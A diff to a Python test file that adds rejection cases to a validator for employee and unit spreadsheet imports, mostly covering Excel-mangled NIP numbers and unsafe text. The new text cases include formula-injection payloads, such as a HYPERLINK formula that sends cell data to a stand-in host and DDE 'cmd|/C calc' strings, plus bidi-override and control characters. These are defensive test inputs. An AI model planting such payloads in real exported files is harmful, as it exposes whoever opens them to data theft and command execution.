@@ -77,6 +77,21 @@ def test_a_clean_file_has_no_issues_and_types_every_value():
     ("rater_nip", DEWI, "unknown_rater"),
     ("rater_nip", BUDI, "self_rater"),
     ("phone", "call me", "invalid_phone"),
+    # An NIP that went through a number: as Excel shows or exports it, or its 15 digits.
+    ("nip", "1.99003212015031E+17", "nip_number_cell"),
+    ("nip", "1,99003212015031E+17", "nip_number_cell"),  # an Indonesian locale
+    ("nip", "199003212015031000", "nip_number_cell"),
+    ("nip", "199003212015031001.0", "nip_number_cell"),
+    ("rater_nip", "1.97203151998031E+17", "nip_number_cell"),
+    # Names: no control or bidi characters, nothing a spreadsheet would run as a formula.
+    ("name", '=HYPERLINK("http://x.example/?"&A1,"klik")', "formula_text"),
+    ("name", "+cmd|' /C calc'!A0", "formula_text"),
+    ("name", "@SUM(1+1)*cmd|' /C calc'!A0", "formula_text"),
+    ("name", "-2+3", "formula_text"),
+    ("jabatan_name", "=1+1", "formula_text"),
+    ("name", "Budi\x00Santoso", "unsafe_text"),
+    ("name", "Budi \u202eosotnaS", "unsafe_text"),
+    ("jabatan_name", "Analis \u2066Kebijakan\u2069", "unsafe_text"),
 ])
 def test_each_bad_value_is_reported_with_row_column_and_reason(column, value, code):
     checked = check_employees(rows(emp(KADIS, jabatan_kind="JPT Pratama", jenjang=""),
@@ -166,6 +181,9 @@ def unit(code, /, name="Unit", kind="bidang", parent="", head="", **over) -> dic
     ("parent_code", "NOWHERE", "unknown_parent"),
     ("parent_code", "X.1", "parent_cycle"),  # its own parent
     ("head_nip", "123", "invalid_nip"),
+    ("head_nip", "1.97911052005011E+17", "nip_number_cell"),
+    ("name", "=cmd|' /C calc'!A0", "formula_text"),
+    ("name", "Bidang\x07P2P", "unsafe_text"),
 ])
 def test_each_bad_unit_value_is_reported(column, value, code):
     checked = check_units(rows(unit("X", kind="dinas", head=KADIS), unit("X.1", parent="X", head=KABID,
